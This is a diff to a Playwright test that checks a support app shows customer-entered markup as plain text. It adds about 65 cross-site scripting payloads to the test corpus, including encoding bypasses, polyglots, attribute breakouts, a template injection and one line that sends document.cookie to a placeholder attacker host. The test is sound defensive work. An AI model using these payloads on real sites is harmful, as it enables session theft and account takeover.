@@ -1,6 +1,6 @@
 """What customers type is only ever text: a corpus of markup and script payloads, stored in the
-customer-controlled fields (message text, name, product, order reference), rendered on the list
-and on every thread screen in Chromium. No dialog opens, no element is injected, the CSP reports
+customer-controlled fields (message text, name, product, order reference), rendered on the list,
+on every thread screen and on each customer's page in Chromium (100 payloads, 24 threads: the run stays one list page). No dialog opens, no element is injected, the CSP reports
 nothing, the page never navigates away, and each text reads back exactly as typed."""
 
 from __future__ import annotations
@@ -54,6 +54,70 @@ PAYLOADS = [
     '<div style="background:url(javascript:alert(1))">x</div>',
     "\u202e<script>alert(1)</script>",
     "<x contenteditable onblur=alert(1)>lose focus</x>",
+    '<img src=1 onload=alert(1)>',
+    '<audio src=x onerror=alert(1)>',
+    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+    '<svg><set onbegin=alert(1) attributeName=x to=1>',
+    '<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>',
+    '<svg><use href=data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x></svg>',
+    '<math href=javascript:alert(1)>x</math>',
+    '<isindex action=javascript:alert(1) type=image>',
+    '<select autofocus onfocus=alert(1)>',
+    '<textarea autofocus onfocus=alert(1)>x</textarea>',
+    '<keygen autofocus onfocus=alert(1)>',
+    '<button onclick=alert(1)>x</button>',
+    '<div onmouseover=alert(1)>x</div>',
+    '<div onpointerenter=alert(1)>x</div>',
+    '<a onfocus=alert(1) autofocus tabindex=1 href=#>x</a>',
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    '<iframe src=data:text/html,<script>alert(1)</script>></iframe>',
+    '<object data=data:text/html,<script>alert(1)</script>></object>',
+    '<link rel=import href=data:text/html,<script>alert(1)</script>>',
+    '<link rel=stylesheet href=javascript:alert(1)>',
+    '<style>*{background:url(javascript:alert(1))}</style>',
+    '<style onload=alert(1)></style>',
+    '<table background=javascript:alert(1)>',
+    '<img dynsrc=javascript:alert(1)>',
+    '<img lowsrc=javascript:alert(1)>',
+    '<bgsound src=javascript:alert(1)>',
+    '<frameset onload=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<img/src=x/onerror=alert(1)>',
+    '<img src=x onerror=alert&#40;1&#41;>',
+    '<img src=x onerror=\\u0061lert(1)>',
+    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
+    "<img src=x onerror=window['al'+'ert'](1)>",
+    '<img src=x onerror=top[/al/.source+/ert/.source](1)>',
+    "<img src=x onerror=import('data:text/javascript,alert(1)')>",
+    '<script src=data:text/javascript,alert(1)></script>',
+    "<script>fetch('//evil.example/'+document.cookie)</script>",
+    '<script type=module>alert(1)</script>',
+    '<ScRiPt>alert(1)</sCrIpT>',
+    '<script/>alert(1)</script>',
+    '%3Cscript%3Ealert(1)%3C/script%3E',
+    '&#60;script&#62;alert(1)&#60;/script&#62;',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
+    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+    '<!--<img src=--><img src=x onerror=alert(1)//>',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<?xml version="1.0"?><script>alert(1)</script>',
+    '<!DOCTYPE html><script>alert(1)</script>',
+    '</script><script>alert(1)</script>',
+    '</style><script>alert(1)</script>',
+    '--><script>alert(1)</script>',
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    '" autofocus onfocus="alert(1)',
+    'javascript:/*--></title></style></textarea></script><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
+    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href=vbscript:msgbox(1)>x</a>',
+    '<form action=javascript:alert(1)><input type=submit></form>',
+    '<input type=image src=x onerror=alert(1)>',
+    '<portal src=javascript:alert(1)></portal>',
+    "{{7*7}}<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
 ]
 THREADS = 24  # one page of the list (25 rows)
 INJECTED = "main script, main img, main iframe, main object, main embed, main svg, main math, main video, main marquee, main details, main input[autofocus], main [onerror], main [onload], main [onfocus], main a[href^='javascript'], main a[href^='data']"
@@ -63,7 +127,7 @@ def _spec(i: int, marker: str) -> dict[str, Any]:
     n = len(PAYLOADS)
     return {
         "email": f"xss-{marker}-{i}@example.com",
-        "text": f"{PAYLOADS[i]} {PAYLOADS[(i + THREADS) % n]}",
+        "text": " ".join(PAYLOADS[j] for j in range(i, n, THREADS)),  # every payload in some thread's text
         "customer_name": PAYLOADS[(i + 12) % n],
         "product": PAYLOADS[(i + 24) % n],
         "order_ref": PAYLOADS[(i + 6) % n][:64],
@@ -92,6 +156,15 @@ def test_the_xss_corpus_is_shown_as_text_on_the_list_and_the_thread_screens(stac
         expect(page.get_by_test_id("message-text").first).to_have_text(spec["text"])
         expect(page.get_by_test_id("message-author").first).to_have_text(spec["customer_name"])
         expect(page.get_by_test_id("customer-block")).to_contain_text(spec["product"])
+        assert page.locator(INJECTED).count() == 0, spec
+    # The customer's page (#/customers/<address>): the thread's preview and order reference.
+    for number, spec in zip(numbers, specs, strict=True):
+        page.evaluate("(e) => { location.hash = `#/customers/${encodeURIComponent(e)}`; }", spec["email"])
+        thread = page.get_by_test_id("customer-thread")
+        expect(thread).to_have_count(1)
+        expect(thread).to_have_attribute("data-number", str(number))
+        preview = page.get_by_test_id("customer-thread-preview").text_content() or ""
+        assert preview and " ".join(spec["text"].split()).startswith(" ".join(preview.rstrip("…").split())), (preview, spec)
         assert page.locator(INJECTED).count() == 0, spec
     page.wait_for_timeout(300)  # a deferred handler (onfocus, ontoggle) would have fired by now
     assert dialogs == [] and page.url.split("#")[0] == origin
